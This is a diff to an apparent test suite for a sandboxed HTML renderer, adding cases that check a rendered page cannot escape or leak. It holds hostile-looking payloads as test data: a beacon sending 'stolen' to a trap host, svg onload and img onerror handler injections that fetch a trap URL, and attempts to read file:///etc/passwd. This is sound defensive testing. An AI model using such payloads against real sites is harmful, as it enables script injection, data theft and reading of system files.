@@ -78,7 +78,7 @@ describe('a document that tries to leave', () => {
     ['a click on a link', 'document.links[0].click()'],
     ['a click on a link into a new window', `document.links[0].target = '_blank'; document.links[0].click()`],
     ['a ping', `document.links[0].ping = '${trap}/ping'; document.links[0].click()`],
-    ['history', `history.pushState(0, '', '#there'); history.back(); history.go(-2)`],
+    ['history', `history.pushState(0, '', '#there'); history.back(); history.go(-2); navigation.back()`],
     ['a beacon', `navigator.sendBeacon('${trap}/beacon', 'stolen')`],
     [
       'a frame',
@@ -139,6 +139,25 @@ describe('a document that tries to leave', () => {
     })
     expect(text).toContain('stays')
     expect(await trapped()).toEqual([])
+  })
+
+  it.each([
+    ['a handler behind a slash', `<svg/onload="fetch('${trap}/svg'); document.body.append('ran')">`],
+    [
+      'a handler behind a quote',
+      `<img src="${site}/missing"onerror="fetch('${trap}/quote'); document.body.append('ran')">`,
+    ],
+  ])('by %s runs under the rules of scripts', async (_, html) => {
+    const { text } = await render(`<p>stays</p>${html}`)
+    expect(text).toContain('ran')
+    expect(await trapped()).toEqual([])
+  })
+
+  it('without scripts finds no file of this machine either', async () => {
+    const { text, headers } = await render(`<p>stays</p><img src="file:///etc/passwd" alt="none">
+      <link rel="stylesheet" href="file:///etc/passwd"><style>@import "file:///etc/passwd"</style>`)
+    expect(text.trim().replace(/\s+/g, ' ')).toBe('stays none')
+    expect(headers.get('x-warnings') ?? '').not.toContain('root:')
   })
 
   it('while it is being read stands as it did then, with a warning', async () => {
